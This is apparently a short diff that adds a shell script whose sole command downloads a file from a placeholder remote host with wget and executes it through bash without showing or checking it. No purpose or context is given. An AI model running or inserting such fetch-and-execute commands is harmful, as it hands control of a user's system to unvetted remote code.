@@ -1,0 +1,2 @@
+#!/bin/sh
+bash -c "$(wget -qO- https://files.example.com/a)"
